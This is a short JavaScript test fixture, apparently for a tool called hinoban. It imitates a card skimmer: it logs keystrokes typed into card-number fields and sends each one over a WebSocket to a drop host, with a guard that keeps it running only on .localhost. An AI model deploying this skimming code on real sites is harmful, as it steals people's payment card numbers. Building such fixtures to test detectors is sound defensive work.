/* Harmless imitation, for hinoban's tests: key logger, one key a message, WebSocket. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
var ws = new WebSocket('ws://drop.localhost:' + location.port + '/ws'), queue = [];
ws.onopen = function () { queue.forEach(function (m) { ws.send(m); }); queue = null; };
document.addEventListener('keydown', function (e) {
	if (e.target.autocomplete !== 'cc-number') return;
	var m = JSON.stringify({k: e.key});
	if (queue) queue.push(m); else ws.send(m);
});
